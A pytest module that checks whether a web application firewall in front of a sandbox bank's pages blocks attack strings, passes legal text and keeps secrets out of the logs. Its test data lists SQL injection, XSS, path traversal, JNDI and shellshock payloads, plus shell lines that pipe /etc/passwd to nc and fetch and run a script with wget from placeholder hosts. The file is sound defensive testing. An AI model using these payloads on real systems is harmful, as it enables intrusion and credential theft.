"""The firewall before the browser pages: ModSecurity with the Core Rule Set, beside what must pass it.

Every attack is sent to a page, in each place of a request, and is blocked by the edge; its accepted twin passes. The
same strings at routes of the API meet the API's own rules and no firewall. And whatever was sent, no password, code or
attack stands in any file of var/log.
"""

import json
import os
import pwd
import uuid

import pytest

from authorization import Party
from bank import Bank, b64url, encode_form
from customers import Customers, Visitor
from open_banking import ThirdParty
from test_smuggling import Edge, statuses, talk

FORM = {"Content-Type": "application/x-www-form-urlencoded"}
LOGINS = ("mia", "sam", "ada", "raj", "zoe", "leo")
# Passwords that a customer may choose and a firewall takes for attacks; the sandbox keeps 39 bytes.
PASSWORDS = {
    "mia": "O'Brien' or 1=1 --",
    "sam": "<script>alert(1)</script>",
    "ada": "../../../../etc/passwd",
    "raj": "; cat /etc/passwd | nc 10.0.0.1 80",
    "zoe": "java.lang.Runtime ${jndi:ldap://x/a}",
    "leo": "100%25 %zz {{7*7}} UNION SELECT null --",
}
ATTACKS = [
    ("sql injection", "1' OR '1'='1' -- "),
    ("sql union", "x' UNION SELECT login, password FROM customers--"),
    ("sql sleep", "1; SELECT pg_sleep(10)--"),
    ("script", "<script>alert(document.cookie)</script>"),
    ("script in an image", '"><img src=x onerror=alert(1)>'),
    ("script address", "javascript:alert(document.domain)"),
    ("path traversal", "../../../../../../etc/passwd"),
    ("windows path traversal", "..\\..\\..\\windows\\win.ini"),
    ("local file", "/etc/shadow"),
    ("php filter", "php://filter/convert.base64-encode/resource=index"),
    ("remote file", "http://192.0.2.1/shell.txt?"),
    ("shell", "; cat /etc/passwd"),
    ("shell in backquotes", "`wget http://192.0.2.1/x -O- | sh`"),
    ("shell shock", "() { :; }; /bin/bash -c id"),
    ("jndi", "${jndi:ldap://192.0.2.1/a}"),
    ("response splitting", "x\r\nSet-Cookie: a=b"),
]
LEGAL = [
    ("a name", "O'Brien"),
    ("another name", "D'Arcy-O'Neill"),
    ("letters of another alphabet", "Зоя Müller-Łuk"),
    ("an address", "mia.o'brien+bank@example.com"),
    ("words of SQL", "select the union order"),
    ("a sum", "5 > 3 & 2 < 4"),
    ("a UUID", str(uuid.uuid4())),
]


@pytest.fixture(scope="module")
def own():
    """A bank whose customers have odd passwords: the file of the sandbox is there before its first start."""
    with Bank() as running:
        people = [
            {
                "login": login,
                "password": PASSWORDS[login],
                "totp_secret": "JBSWY3DPEHPK3PXPJBSWY3DPEHPK3P" + f"{chr(ord('A') + number)}A",
                "customer_id": "",
                "accounts": [{"account_id": ""}, {"account_id": ""}],
            }
            for number, login in enumerate(LOGINS)
        ]
        running.var.mkdir()
        path = running.var / "customers.json"
        path.write_text(json.dumps(people))
        path.chmod(0o600)
        if os.geteuid() == 0:
            user = pwd.getpwnam("www-data")
            os.chown(path, user.pw_uid, user.pw_gid)
            os.chown(running.var, user.pw_uid, user.pw_gid)
        yield running.start()


def is_blocked(answer):
    """The edge's own page; never the daemon's."""
    if answer.status != 403:
        return False
    assert answer.headers["content-type"] == "text/html; charset=utf-8", answer
    assert b"The firewall takes this request for an attack." in answer.body, answer
    assert answer.headers["x-fapi-interaction-id"].encode() in answer.body, answer
    assert answer.headers["cache-control"] == "no-store" and "strict-transport-security" in answer.headers, answer
    assert "content-security-policy" in answer.headers and "server" in answer.headers, answer
    assert answer.headers["server"] == "nginx", answer
    return True


def in_query(bank, text):
    return bank.browser("GET", "/authorize?" + encode_form({"client_id": "acme-tpp", "state": text}))


def in_form(bank, text):
    body = encode_form({"csrf": "x", "login": text, "password": "x", "code": "123456"})
    return bank.browser("POST", "/customer/login", body, FORM)


def in_name(bank, text):
    return bank.browser("GET", "/customer?" + encode_form({text: "1"}))


def in_cookie(bank, text):
    return bank.browser("GET", "/customer", None, {"Cookie": "a=" + text.replace(";", "%3b")})


# A remote file is looked for in fields alone; in a name or a cookie it is but an address. Cookies end at ";" or a line.
PLACES = [
    (in_query, ()),
    (in_form, ()),
    (
        in_name,
        (
            "remote file",
            "path traversal",
            "windows path traversal",
            "local file",
            "sql sleep",
            "php filter",
            "shell",
            "shell in backquotes",
            "response splitting",
        ),
    ),
    (
        in_cookie,
        ("remote file", "path traversal", "windows path traversal", "local file", "response splitting", "shell"),
    ),
]


@pytest.mark.parametrize("name, text", ATTACKS, ids=[row[0] for row in ATTACKS])
@pytest.mark.spec("gateway/55", "uk/E6")
def test_attack_on_a_page_is_blocked(own, name, text):
    for place, not_looked_for in PLACES:
        if name in not_looked_for:
            continue
        answer = place(own, text)
        assert is_blocked(answer), (place.__name__, answer)


@pytest.mark.parametrize("name, text", LEGAL, ids=[row[0] for row in LEGAL])
@pytest.mark.spec("gateway/55")
def test_odd_but_legal_text_passes(own, name, text):
    for place in (in_query, in_form, in_name):
        answer = place(own, text)
        assert answer.status in (200, 400) and not is_blocked(answer), (place.__name__, answer)


@pytest.mark.parametrize("agent", ["sqlmap/1.7#stable", "Nikto/2.5.0", "Mozilla/5.0 zgrab/0.x nessus"])
@pytest.mark.spec("gateway/55")
def test_scanner_is_blocked(own, agent):
    assert is_blocked(own.browser("GET", "/customer", None, {"User-Agent": agent}))
    real = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
    assert own.browser("GET", "/customer", None, {"User-Agent": real}).status == 200


@pytest.mark.parametrize("path", ["/.git/config", "/.env", "/wp-config.php.bak", "/.htaccess"])
@pytest.mark.spec("gateway/55")
def test_hidden_files_are_blocked(own, path):
    assert is_blocked(own.browser("GET", path))
    assert own.browser("GET", "/nothing/here").status == 404


@pytest.mark.parametrize("login", LOGINS)
@pytest.mark.spec("gateway/55")
def test_a_customer_with_an_odd_password_comes_in(own, login):
    customer = Customers(own.customers().values()).all[login]
    assert customer.password == PASSWORDS[login]
    Visitor(own).enter(customer)


@pytest.mark.spec("gateway/55")
def test_a_third_party_brings_its_customer(own):
    """What a third party writes into the address of /authorize passes: pushed, signed by value, with JSON in it."""
    third = ThirdParty(own.client("acme-tpp"))
    consent_id = third.consent_made()
    assert third.authorized(consent_id)
    party = Party(own.client("acme-tpp"))
    fields = party.parameters(consent_id, b64url(uuid.uuid4().bytes * 2))
    fields["claims"] = json.dumps(fields["claims"])
    answer = own.browser("GET", "/authorize?" + encode_form({k: v for k, v in fields.items() if v is not None}))
    assert not is_blocked(answer) and answer.status in (303, 400), answer


@pytest.mark.parametrize("name, text", ATTACKS, ids=[row[0] for row in ATTACKS])
@pytest.mark.spec("gateway/55", "uk/E6")
def test_the_api_has_its_own_rules(own, name, text):
    """No firewall there: what fits the contract is stored as it is, what does not is refused in the API's words."""
    bench = own.client("bench-client")
    made = bench.post("/v1/accounts", {"name": text, "currency": "GBP"}, "accounts")
    if "\r" in text:
        assert made.status == 400 and made.code in ("invalid_request", "validation_failed"), made
    else:
        assert made.status == 201 and made.json["name"] == text, made
    found = bench.get("/v1/accounts/" + encode_form({"": text})[1:].replace("+", "%20"), "accounts")
    assert found.status in (400, 404) and b"firewall" not in found.body and found.code, found
    token = bench.ask_token({"grant_type": text})
    assert token.status in (400, 401) and token.headers["content-type"].startswith("application/json"), token
    assert b"firewall" not in token.body and "error" in token.json, token
    search = bench.get("/v1/accounts?" + encode_form({"cursor": text}), "accounts")
    assert search.status == 400 and search.code and b"firewall" not in search.body, search


@pytest.mark.spec("gateway/55", "gateway/T10")
def test_nothing_of_it_is_recorded(own):
    """Blocked and accepted alike: neither passwords nor one-time codes nor the attack stand in var/log."""
    secret = "hunter2-" + uuid.uuid4().hex
    code = "918273"
    attack = f"{secret}' UNION SELECT password FROM customers--"
    body = encode_form({"csrf": "x", "login": attack, "password": secret, "code": code})
    assert is_blocked(own.browser("POST", "/customer/login", body, FORM))
    assert is_blocked(own.browser("GET", "/customer?" + encode_form({"a": attack}), None, {"Cookie": "a=" + secret}))
    body = encode_form({"csrf": "x", "login": "mia", "password": secret, "code": code})
    assert own.browser("POST", "/customer/login", body, FORM).status == 200
    logs = [path for path in (own.var / "log").rglob("*") if path.is_file()]
    assert any(path.name == "nginx-access.log" for path in logs)
    for path in logs + [path for path in (own.var / "nginx").rglob("*") if path.is_file()]:
        text = path.read_bytes()
        for word in (secret.encode(), code.encode(), b"UNION SELECT", *(p.encode() for p in PASSWORDS.values())):
            assert word not in text, path
    lines = [json.loads(line) for line in (own.var / "log" / "nginx-access.log").read_text().splitlines()]
    blocked = [line for line in lines if line["status"] == 403 and line["listener"] == "browser"]
    assert blocked and all(line["daemon_status"] == "" and line["request_id"] for line in blocked), blocked[-1:]


@pytest.mark.spec("gateway/55")
def test_the_mtls_listener_has_none(own):
    """A page's path on the other port is no page."""
    edge = Edge(own)
    request = f"GET /customer?a=%3Cscript%3E HTTP/1.1\r\n{edge.own_headers}Connection: close\r\n\r\n".encode()
    assert statuses(talk(edge, request)) == [404]
